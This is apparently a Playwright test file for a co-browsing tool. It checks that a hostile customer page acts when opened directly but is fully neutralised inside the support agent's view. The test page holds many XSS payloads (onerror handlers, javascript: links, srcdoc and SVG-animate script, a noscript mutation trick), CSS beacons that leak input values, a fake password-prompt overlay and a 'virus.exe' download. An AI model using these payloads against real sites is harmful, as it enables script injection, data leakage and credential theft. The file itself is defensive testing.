import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Told } from '@deskbell/cobrowse/testing/told-page.js';
import type { BrowserContext, Page } from 'playwright-core';
import { testBrowser } from './browser.js';
import { desk, elsewhere, inPage, watch } from './cobrowse-view.js';

// A customer's page that attacks the agent: the same page is opened once as itself, where it acts, so that it is known that what it does would be
// seen; and then in the view, where none of it does.

const browser = await testBrowser();
const at = elsewhere.url;
/** Once each: who is told by a dialog that something has the focus has it again when that is closed. */
const CODE = (sign: string): string => `top.did_${sign}||(top.did_${sign}=1,alert('${sign}'))`;
const SVG = (size: number): string =>
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" width="${size}" height="${size}"><rect width="100%" height="100%" fill="red"/></svg>`)}`;

const HEAD: readonly Told[] = [
  ['meta', { 'http-equiv': 'refresh', content: `1;url=${at}/refreshed` }],
  ['link', { rel: 'preload', as: 'image', href: `${at}/preload` }],
  ['link', { rel: 'prefetch', href: `${at}/prefetch` }],
  ['link', { rel: 'modulepreload', href: `${at}/modulepreload` }],
  ['link', { rel: 'stylesheet', href: `${at}/stylesheet` }],
  ['link', { rel: 'icon', href: `${at}/icon` }],
  ['style', { id: 'style' }],
];
/** What phones home. */
const CSS = `@import "${at}/import"; @font-face { font-family: F; src: url(${at}/font) } p { font-family: F; background: url(${at}/background) }
  p::after { content: url(${at}/content) } a:hover { background: url(${at}/hover) } input[value^="a"] { background: url(${at}/value-a) }`;

const BODY: readonly Told[] = [
  ['script', {}, CODE('script')],
  ['img', { src: `${at}/img`, onerror: CODE('error') }],
  ['img', { src: 'x:', onerror: CODE('onerror') }],
  ['p', {}, 'Text'],
  ['input', { autofocus: '', onfocus: CODE('focus'), value: 'abc' }],
  ['iframe', { srcdoc: `<script>${CODE('srcdoc')}</script><img src=${at}/in-srcdoc>` }],
  ['iframe', { src: `javascript:"<script>${CODE('frame').replaceAll("'", '&apos;')}</script>"` }],
  ['iframe', { src: `${at}/frame` }],
  ['object', { data: `${at}/object` }],
  ['embed', { src: `${at}/embed`, type: 'image/png' }],
  ['video', { src: `${at}/video`, poster: `${at}/poster`, autoplay: '' }],
  ['a', { id: 'script', href: `javascript:${CODE('link')}` }, 'Link'],
  ['a', { id: 'top', href: `${at}/top`, target: '_top', ping: `${at}/ping` }, 'Top'],
  ['a', { id: 'tab', href: `${at}/tab`, target: '_blank' }, 'Tab'],
  ['a', { id: 'file', href: 'data:application/octet-stream,x', download: 'virus.exe' }, 'File'],
  [
    'form',
    { id: 'form', action: `${at}/form`, method: 'post', target: '_blank' },
    ['button', { id: 'send', formaction: `${at}/formaction`, formtarget: '_blank' }, 'Send'],
  ],
  [
    'svg:svg',
    { onload: CODE('svg') },
    ['svg:use', { href: `${at}/use#x` }],
    ['svg:image', { 'xlink:href': `${at}/xlink` }],
    [
      'svg:a',
      { href: '#', id: 'svg' },
      ['svg:animate', { attributeName: 'href', to: `javascript:${CODE('animate')}`, dur: '1ms', fill: 'freeze' }],
    ],
    ['svg:foreignObject', {}, ['img', { src: 'x:', onerror: CODE('foreign') }]],
  ],
  ['noscript', {}, `<p title="</noscript><img src=x: onerror=${CODE('mutation')}>">`],
  ['details', { open: '', ontoggle: CODE('toggle') }],
  ['marquee', { onstart: CODE('marquee') }],
];

/** Everything that a page could do to whoever looks at it, as the browser tells of it. */
function watchful(context: BrowserContext, page: Page) {
  const seen = { dialogs: [] as string[], opened: [] as string[], led: [] as string[], downloads: 0 };
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  context.on('page', (other) => seen.opened.push(other.url()));
  page.on('framenavigated', (frame) => {
    if (frame === page.mainFrame()) seen.led.push(frame.url());
  });
  page.on('download', () => (seen.downloads += 1));
  return seen;
}

const asked = (): string[] => elsewhere.asked.map(({ path }) => path);

test('COB 6 whoever watches sees what an attack does where it acts: a dialog, a request, a window, a file, and where the page is led', async () => {
  const context = await browser.person();
  const page = await context.newPage();
  await page.goto(desk.url);
  const seen = watchful(context, page);
  await page.evaluate(
    (html) => {
      document.body.insertAdjacentHTML('beforeend', html);
      for (const link of document.querySelectorAll<HTMLElement>('#tab, #file')) link.click();
    },
    `<img src="x:" onerror="setTimeout(() => {${CODE('onerror')}})"><img src="${at}/img"><a id="tab" href="${at}/tab" target="_blank">Tab</a>
     <a id="file" href="data:application/octet-stream,x" download="virus.exe">File</a>`,
  );
  const isSeen = () => seen.dialogs.includes('onerror') && asked().includes('/img') && seen.opened.length > 0 && seen.downloads > 0;
  for (let look = 0; !isSeen(); look += 1) {
    assert.ok(look < 1_000, JSON.stringify({ seen, asked: asked() }));
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve)));
  }
  await page.evaluate(
    (to) => document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${to}">`),
    `${at}/led`,
  );
  await page.waitForURL(`${at}/led`);
  assert.ok(seen.led.includes(`${at}/led`));
  await context.close();
});

test('COB 6 in the view none of it acts: no script, no request, no dialog, no window, no file, and the agent’s page stays where it is', async () => {
  const { page, teller, encoder, send, view } = await watch(browser);
  const seen = watchful(page.context(), page);
  elsewhere.asked.splice(0);
  teller.fresh([...BODY, ['p', { id: 'end' }, 'The end']], { head: HEAD, page: { base: at, address: at, width: 1_000 } });
  encoder.sheet(teller.id('style'), CSS);
  await send();
  // The agent's own hand; and what no hand reaches.
  await page.locator('#place iframe').hover();
  for (const [x, y] of [
    [20, 20],
    [100, 60],
    [300, 40],
  ] as const)
    await page.mouse.click(x, y);
  await inPage(view, (content) => {
    for (const link of content.querySelectorAll('button')) link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    for (const form of content.querySelectorAll('form')) form.requestSubmit();
  });
  // What came last is there, and was painted, after everything else.
  teller.tell(['p', { id: 'later' }, 'painted'], teller.id('body'));
  await send();
  await view.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve)));
  assert.deepEqual(seen, { dialogs: [], opened: [], led: [], downloads: 0 });
  assert.deepEqual(asked(), []);
  assert.deepEqual(await page.evaluate(() => [document.title, location.origin, document.activeElement?.localName]), [
    'CRM',
    desk.url,
    'iframe',
  ]);
  assert.equal(await inPage(view, (content) => content.querySelector('#later')?.textContent), 'painted');
});

test('COB 6 a page that covers everything, and pictures of any size, stay within the view', async () => {
  const { page, teller, encoder, send, view } = await watch(browser);
  const cover = 'position: fixed; inset: -5000px; z-index: 2147483647; width: 20000px; height: 20000px; background: rgb(255, 0, 0)';
  teller.fresh(
    [
      ['img', { id: 'huge', src: SVG(100_000), style: 'max-width: none' }],
      ['canvas', { width: '100000', height: '100000' }],
      [
        'div',
        { id: 'cover', style: cover },
        ['h1', {}, 'Your session has ended. Password:'],
        ['input', { type: 'password', autofocus: '' }],
      ],
      ['dialog', { id: 'dialog', open: '', style: cover }, 'Sign in'],
    ],
    { page: { width: 1_000, height: 600 } },
  );
  await send();
  const dialog = teller.id('dialog');
  encoder.opened(dialog, 'modal');
  encoder.opened(teller.id('cover'), 'fullscreen');
  await send();
  assert.deepEqual(await inPage(view, (content) => [content.fullscreenElement, document.fullscreenElement]), [null, null]);
  const box = await page.locator('#place iframe').boundingBox();
  assert.ok(box);
  // What is the desk's is still the desk's: seen, and to be used.
  const outside = await page.evaluate(
    ([right, bottom]) =>
      [document.elementFromPoint(right + 5, bottom - 5), document.elementFromPoint(right - 50, 5)].map((element) => element?.localName),
    [box.x + box.width, box.y + box.height] as const,
  );
  assert.equal(outside.includes('iframe'), false);
  await page.locator('#note').fill('still mine');
  assert.equal(await page.locator('#note').inputValue(), 'still mine');
  const picture = await page.screenshot();
  assert.ok(picture.length > 0);
  // It is shown, where it may be.
  assert.equal(await page.evaluate(() => document.elementFromPoint(500, 300)?.localName), 'iframe');
});
